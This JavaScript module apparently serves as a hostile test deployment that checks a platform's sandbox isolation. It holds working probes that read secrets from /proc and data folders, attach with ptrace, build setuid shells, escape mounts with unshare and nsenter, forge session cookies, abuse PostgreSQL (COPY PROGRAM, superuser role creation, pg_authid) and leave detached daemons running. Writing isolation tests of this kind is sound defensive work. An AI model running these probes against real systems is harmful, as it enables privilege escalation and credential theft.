// A hostile deployment: attacks by foreign code, at build time and while it serves. Each returns what it got, or
// undefined; targets.json tells it where everything is, so that only missing rights can stop it.
import { execFileSync, spawn } from 'node:child_process'
import { existsSync, openSync, readdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs'
import path from 'node:path'

const here = import.meta.dirname
export const targets = JSON.parse(readFileSync(path.join(here, 'targets.json'), 'utf8'))
const { data, outside, other, pids, url } = targets

const read = (file) => {
  try {
    return readFileSync(file, 'latin1')
  } catch {
    return ''
  }
}
const list = (folder) => {
  try {
    return readdirSync(folder)
  } catch {
    return []
  }
}
/** Whether it may be opened for writing; nothing is changed. */
const isWritable = (file) => {
  try {
    openSync(file, 'a')
    return `${file} can be written`
  } catch {
    return undefined
  }
}
const creates = (folder) => {
  try {
    writeFileSync(path.join(folder, 'planted'), 'planted')
    return `wrote into ${folder}`
  } catch {
    return undefined
  }
}
const run = (file, ...args) => {
  try {
    return execFileSync(file, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 5000 })
  } catch {
    return ''
  }
}
const say = (text) => (text ? String(text).slice(0, 200) : undefined)
const every = () => list('/proc').filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid)
/** The canary stands for the console: a process of the operator with a secret in its environment and command line. */
const canary = (text) => say(/canary-\w+/.exec(text)?.[0])
const status = async (place, headers = {}) =>
  (await fetch(url + place, { headers }).catch(() => ({ status: 0 }))).status
const responds = async (place, headers) => ((await status(place, headers)) === 200 ? `${place} answered` : undefined)

/** Anything but a refusal, or more than one word of how the console is. */
async function consoleSays(name) {
  const place = {
    'api/relay': '/api/relay/default/control-plane/v2/deployments',
    'api/export': '/api/export/default/deployments?format=json',
    'api/live': '/api/live',
  }[name]
  const isPost = name === 'api/live'
  /** @type {Record<string, string>[]} */
  const tries = [{}, { origin: 'http://localhost:3000', 'x-forwarded-for': '127.0.0.1' }]
  for (const headers of tries) {
    const response = await fetch(targets.console + (place ?? `/${name}`), {
      method: isPost ? 'POST' : 'GET',
      headers: { ...headers, 'content-type': 'application/json', cookie: 'pilothouse-3000.session=forged' },
      ...(isPost && { body: '{"subscriptions":[]}' }),
    })
    const text = await response.text()
    const isHealth = /^\{"status":"(ok|ready)"(,"problems":\[\],"warnings":\[[A-Za-z ,:."]*\])?\}$/.test(text)
    if (response.ok && !isHealth) return `${response.status} ${text.slice(0, 100)}`
  }
  return undefined
}

/** @type {Record<string, () => unknown>} */
export const WAYS = {
  'environment of every process': () =>
    canary(
      every()
        .map((pid) => read(`/proc/${pid}/environ`))
        .join(''),
    ),
  'command line of every process': () =>
    canary(
      every()
        .map((pid) => read(`/proc/${pid}/cmdline`))
        .join(''),
    ),
  'memory map of the platform': () => say(read(`/proc/${pids.platform}/maps`)),
  'memory of the platform': () => isWritable(`/proc/${pids.platform}/mem`),
  'memory of the canary': () => isWritable(`/proc/${pids.canary}/mem`),
  'open files of the platform': () => say(list(`/proc/${pids.platform}/fd`).join(' ')),
  'working folder of the platform': () => say(list(`/proc/${pids.platform}/cwd/`).join(' ')),
  'root of the platform’s processes': () => say(read(`/proc/${pids.platform}/root${data}/platform/api-key`)),
  'ptrace of the canary': () => {
    const script = `import ctypes; print(ctypes.CDLL(None).ptrace(16, ${pids.canary}, 0, 0))`
    return run('python3', '-c', script).trim() === '0' ? 'attached' : undefined
  },
  'signal to the canary': () => signal(pids.canary),
  'signal to the platform': () => signal(pids.platform),
  'debugger of the platform': () => {
    try {
      const own = /** @type {any} */ (process)
      own._debugProcess(pids.platform)
      return 'the inspector was started'
    } catch {
      return undefined
    }
  },
  'list of the data folder': () =>
    say(
      list(data)
        .filter((name) => !['builds', 'cache'].includes(name))
        .join(' '),
    ),
  'API key of the platform': () => say(read(path.join(data, 'platform/api-key'))),
  'seal key of the platform': () => say(read(path.join(data, 'platform/seal-key'))),
  'address file of the platform': () => say(read(path.join(data, 'platform.json'))),
  'sealing key of the console': () => say(read(path.join(data, 'sealing-key'))),
  'a cookie made with the session secret': () => say(read(path.join(data, 'session-secret'))),
  'passwords of the database': () => say(read(path.join(data, 'postgres-password'))),
  'files of the database': () => say(read(path.join(data, 'postgres/PG_VERSION'))),
  'repositories of the platform': () => say(list(path.join(data, 'repositories')).join(' ')),
  'image store': () => say(list(path.join(data, 'images')).join(' ')),
  'folder of another deployment': () => say(read(path.join(other, 'graph.mjs')) || list(other).join(' ')),
  'write into the folder of another deployment': () => creates(other),
  'write into the build cache': () => creates(path.join(data, 'cache/builds')),
  'write into the git mirrors': () => creates(path.join(data, 'cache/git')),
  'write into the package managers': () => creates(path.join(data, 'cache/tools')),
  'write into the package caches': () => creates(path.join(data, 'cache/packages')),
  'change the agent server’s program': () => isWritable(path.resolve(targets.root, '.build/agent-server.mjs')),
  'change a package of the platform': () => isWritable(path.join(targets.root, 'node_modules/pg/package.json')),
  'home folder of the operator': () => say(read(path.join(targets.home, '.netrc'))),
  'file of the operator in /tmp': () => say(read(outside)),
  'shared memory of others': () => canary(list('/dev/shm').join(' ')),
  'write into the system': () => creates('/etc') ?? creates('/usr/local') ?? creates('/var/lib'),
  'link in the repository': () =>
    say(read(path.join(here, 'linked-key')) || list(path.join(here, 'linked-folder')).includes('api-key')),
  'inherited files': () =>
    say(
      list('/proc/self/fd')
        .map((fd) => {
          try {
            return readlinkSync(`/proc/self/fd/${fd}`)
          } catch {
            return ''
          }
        })
        .find((place) => place.startsWith(data) && !place.startsWith(here)),
    ),
  'own environment': () =>
    say(
      Object.keys(process.env)
        .filter((name) => /DATABASE|_SECRET$|SEAL|NEXTAUTH|CONTROL_PLANE/.test(name))
        .join(' '),
    ),
  'become root': () => {
    try {
      process.setuid?.(0)
      return process.getuid?.() === 0 ? 'root' : undefined
    } catch {
      return undefined
    }
  },
  'programs that run as their owner': () => {
    const shell = path.join(here, 'shell')
    run('cp', '/bin/sh', shell)
    run('chown', '0', shell)
    run('chmod', 'u+s', shell)
    return say(
      read(path.join(data, 'platform/api-key')) ||
        run(shell, '-p', '-c', `cat '${data}/platform/api-key'`) ||
        run('sudo', '-n', 'cat', `${data}/platform/api-key`),
    )
  },
  'undo the mounts': () => {
    const script = `umount -l '${data}'; umount -l /tmp; cat '${data}/platform/api-key' '${outside}'`
    return say(run('unshare', '-Urm', 'sh', '-c', script) || run('sh', '-c', script))
  },
  'namespaces of the first process': () =>
    say(run('nsenter', '-t', '1', '-m', 'cat', path.join(data, 'platform/api-key'))),
  'core dumps': () => (run('sh', '-c', 'ulimit -H -c').trim() === '0' ? undefined : 'core dumps can be switched on'),
  'deployments without a key': () => responds('/v2/deployments'),
  'another deployment without a key': () => responds(`/agents/${targets.otherId}/info`),
  'traces without a key': () => responds('/sessions'),
  'own key on the control plane': () =>
    responds('/v2/deployments', { 'x-api-key': process.env.LANGSMITH_API_KEY ?? '' }),
  'own key on another deployment': () =>
    responds(`/agents/${targets.otherId}/info`, { 'x-api-key': process.env.LANGSMITH_API_KEY ?? '' }),
  'own key on the traces': () => responds('/sessions', { 'x-api-key': process.env.LANGSMITH_API_KEY ?? '' }),
  'metrics and health without a key': async () => {
    for (const place of ['/metrics', '/healthz', '/readyz', '/internal', `/agents/${targets.otherId}/metrics`]) {
      const response = await fetch(url + place).catch(() => undefined)
      const text = (await response?.text()) ?? ''
      if (text.includes(data) || (place.endsWith('metrics') && response?.ok)) return `${place} answered`
    }
    return undefined
  },
  // What the console's port says to anybody: that it is alive and ready, and nothing else.
  ...Object.fromEntries(
    ['healthz', 'readyz', 'metrics', 'api/relay', 'api/export', 'api/live'].map((name) => [
      `${name} of the console`,
      () => consoleSays(name),
    ]),
  ),
  'agent server of another deployment without its secret': async () => {
    for (const port of openPorts()) {
      const response = await fetch(`http://127.0.0.1:${port}/info`, { signal: AbortSignal.timeout(1000) }).catch(
        () => undefined,
      )
      const text = await response?.text().catch(() => '')
      if (text?.includes(targets.otherId)) return `port ${port} answered`
    }
    return undefined
  },
}

function signal(pid) {
  try {
    return process.kill(pid, 0) && `process ${pid} can be signalled`
  } catch {
    return undefined
  }
}
const openPorts = () =>
  read('/proc/net/tcp')
    .split('\n')
    .filter((line) => / 0A /.test(line) && /: 0100007F:/.test(line))
    .map((line) => Number.parseInt(/: 0100007F:([0-9A-F]{4})/.exec(line)?.[1] ?? '0', 16))

/** Attacks over the agent server's own database connection, whose address its process knows. */
export async function databaseWays(address) {
  const { default: pg } = await import('pg')
  const attempt = async (statement, user = {}) => {
    const client = new pg.Client({ ...address, ...user })
    client.on('error', () => {})
    try {
      await client.connect()
      const { rows, command } = await client.query(statement)
      return say(`${command} ${JSON.stringify(rows)}`)
    } catch {
      return undefined
    } finally {
      await client.end().catch(() => {})
    }
  }
  return {
    'COPY … PROGRAM': () => attempt(`copy (select 1) to program 'true'`),
    pg_read_file: () => attempt(`select pg_read_file('PG_VERSION')`),
    'CREATE ROLE': () => attempt('create role hostile superuser login'),
    'SET ROLE of the platform': () => attempt(`set role "${targets.platformRole}"`),
    'accounts of the console': () => attempt('select * from console.accounts'),
    'tables of the platform': () => attempt('select * from platform.deployments'),
    'schema of another deployment': () => attempt(`select * from agent_${targets.otherId.replaceAll('-', '')}.threads`),
    'passwords in the catalog': () => attempt('select rolpassword from pg_authid'),
    'database without a password': () => attempt('select 1', { user: targets.platformRole, password: '' }),
    'statements of others': () =>
      attempt(
        `select query from pg_stat_activity where usename <> current_user and query not like '<insuff%' and query <> ''`,
      ).then((found) => (found?.endsWith('[]') ? undefined : found)),
  }
}

/** Runs all attacks; returns what each got, by name. */
export async function tryAll(ways) {
  const found = {}
  for (const [name, way] of Object.entries(ways)) {
    try {
      found[name] = (await way()) || null
    } catch {
      found[name] = null
    }
  }
  return found
}

/** Processes that outlive the program and write the time to a file. */
export function leaveDaemon() {
  const script = `setInterval(() => require('node:fs').writeFileSync('heartbeat', String(Date.now())), 50)`
  for (const file of [process.execPath, 'setsid'])
    spawn(file, file === 'setsid' ? [process.execPath, '-e', script] : ['-e', script], {
      cwd: here,
      detached: true,
      stdio: 'ignore',
    }).unref()
}
export const heartbeat = () => (existsSync(path.join(here, 'heartbeat')) ? read(path.join(here, 'heartbeat')) : '')
